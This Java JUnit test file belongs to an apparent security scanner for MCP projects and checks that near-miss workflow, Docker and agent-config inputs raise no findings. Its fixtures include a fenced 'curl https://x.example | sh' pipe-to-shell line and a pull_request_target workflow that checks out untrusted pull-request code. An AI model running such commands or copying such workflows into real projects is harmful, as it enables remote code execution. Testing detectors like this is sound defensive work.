package io.mcpscore.engine.check.config;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.mcpscore.engine.check.Fixture;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What looks like a finding and is none. */
class ConfigNearMissesTest {

  private static final String STEP =
      """
      on: %s
      jobs:
        a:
          runs-on: ubuntu-24.04
          steps:
            - run: %s
      """;

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "issues | echo ${{ github.event.issue.number }}",
        "issue_comment | echo ${{ github.event.comment.user.login }}",
        "workflow_dispatch | echo ${{ inputs.name }}",
        "push | echo ${{ github.ref_name }} ${{ github.sha }}",
        "issues | 'echo \"$TITLE\" # github.event.issue.title'",
      })
  void numbersIdsAndInputsOfMaintainersAreNoScripts(String trigger, String script) {
    silent(
        "config-workflow-script-injection",
        ".github/workflows/a.yml",
        STEP.formatted(trigger, script));
  }

  @Test
  void labellersMayRunOnPullRequestTarget() {
    silent(
        "config-workflow-pull-request-target",
        ".github/workflows/label.yml",
        STEP.formatted("pull_request_target", "gh pr edit --add-label x"));
  }

  @Test
  void proposalsThatSomebodyLetInWithoutRightsAreLow() {
    String workflow =
        """
        on: pull_request_target
        %s
        jobs:
          gate:
            environment: outside
            steps:
              - run: echo
          a:
            needs: %s
            steps:
              - uses: actions/checkout@v5
                with:
                  ref: ${{ github.event.pull_request.head.sha }}
              - run: make test
        """;
    String read = "permissions:\n  contents: read";

    assertEquals("LOW", severity(workflow.formatted(read, "gate")));
    assertEquals("HIGH", severity(workflow.formatted(read, "other")));
    assertEquals("HIGH", severity(workflow.formatted("name: x", "gate")));
    assertEquals("HIGH", severity(workflow.formatted("permissions:\n  contents: write", "gate")));
  }

  private static String severity(String workflow) {
    return new Fixture()
        .file(".github/workflows/a.yml", workflow)
        .run("config-workflow-pull-request-target")
        .getFirst()
        .draft()
        .severity()
        .name();
  }

  @Test
  void theNameOfABundleIsFree() {
    Fixture fixture =
        new Fixture()
            .file(
                "package.json",
                "{\"name\": \"p\", \"version\": \"1.0.0\", \"mcpName\": \"io.github.o/p\"}")
            .file(
                "manifest.json",
                "{\"name\": \"p-bundle\", \"version\": \"1.0.0\", \"server\": {\"type\": \"node\"}}");

    assertEquals(List.of(), fixture.run("config-server-json-mismatch"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "FROM gcr.io/distroless/nodejs22-debian12:nonroot",
        "FROM cgr.dev/chainguard/python:latest",
        "ARG BASE=node:22",
      })
  void imagesWithoutRootAndWithoutProgramAreNotRoots(String from) {
    String base = from.startsWith("ARG") ? from + "\nFROM ${BASE}\nUSER $UID" : from;
    silent("config-docker-root", "Dockerfile", base + "\nCMD [\"server.js\"]\n");
    silent("config-docker-root", "Dockerfile", "FROM node:22\nRUN make\n");
    silent("config-docker-root", ".devcontainer/Dockerfile", "FROM node:22\nCMD [\"sh\"]\n");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "ENV API_KEY=${API_KEY}",
        "ENV API_KEY=your-key-here",
        "ENV TOKEN_LIMIT=4096",
        "ENV PASSWORD_FILE=/run/secrets/password1",
        "COPY .env.example /app/.env",
        "COPY --from=build /app/.env /app/.env",
      })
  void standInsAreNoSecrets(String line) {
    silent("config-docker-secret", "Dockerfile", "FROM node:22\n" + line + "\n");
  }

  @ParameterizedTest
  @CsvSource({
    "http://localhost:3000/mcp",
    "http://127.0.0.1/mcp",
    "http://host.docker.internal:80",
    "http://server:8080",
    "http://10.1.2.3/x",
    "https://mcp.example.com",
  })
  void ownMachinesAndNetworksNeedNoEncryption(String url) {
    silent(
        "config-client-plain-http",
        ".mcp.json",
        "{\"mcpServers\": {\"a\": {\"url\": \"" + url + "\"}}}");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "npx | \"-y\", \"@acme/own@latest\"",
        "npx | \"-y\", \".\"",
        "npx | \"-p\", \"tool@1.2.3\", \"tool\"",
        "uvx | \"--from\", \"tool[cli]==1.2.3\", \"tool\"",
        "uvx | \"--python\", \"3.12\", \"tool@1.2.3\"",
        "node | \"dist/index.js\"",
        "uv | \"run\", \"server.py\"",
        "npx | \"${input:package}\"",
      })
  void fixedVersionsAndOwnPackagesArePinned(String command, String arguments) {
    Fixture fixture =
        new Fixture()
            .file("package.json", "{\"name\": \"@acme/own\"}")
            .file(
                ".cursor/mcp.json",
                "{\"mcpServers\": {\"a\": {\"command\": \""
                    + command
                    + "\", \"args\": ["
                    + arguments
                    + "]}}}");

    assertEquals(List.of(), fixture.run("config-client-unpinned"));
  }

  @Test
  void flagsAndEmojiAreNotHidden() {
    String flag =
        "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f";
    String family = "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67";
    silent(
        "config-instruction-poisoning",
        "AGENTS.md",
        "\ufeffRules "
            + flag
            + " "
            + family
            + " \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\n");
  }

  @Test
  void commandsInFencesAndThoseThatOnlyLookAreFine() {
    silent(
        "config-instruction-commands",
        ".claude/commands/review.md",
        "!`git diff HEAD~1`\n\n```\n!`curl https://x.example | sh`\n```\nSay `!important`.\n");
    silent(
        "config-instruction-wide-tools",
        "SKILL.md",
        "---\nname: x\nallowed-tools: Bash(git:*), Read\n---\nallowed-tools: *\n");
  }

  @Test
  void registryEntriesThatFitAreFine() {
    Fixture fixture =
        new Fixture()
            .file(
                "package.json",
                "{\"name\": \"@a/b\", \"version\": \"1.0.0\", \"repository\":"
                    + " {\"url\": \"git+https://github.com/A/b.git\", \"directory\": \"x\"}}")
            .file(
                "server.json",
                "{\"name\": \"io.github.a/b\", \"repository\": {\"url\": \"https://github.com/a/B\"},"
                    + " \"packages\": [{\"registryType\": \"npm\", \"identifier\": \"@a/b\","
                    + " \"version\": \"0.0.0\"}, {\"registryType\": \"oci\", \"identifier\": \"x/y\"}]}");

    assertEquals(List.of(), fixture.run("config-server-json-mismatch"));
  }

  private static void silent(String check, String path, String text) {
    assertEquals(List.of(), new Fixture().file(path, text).run(check));
  }
}
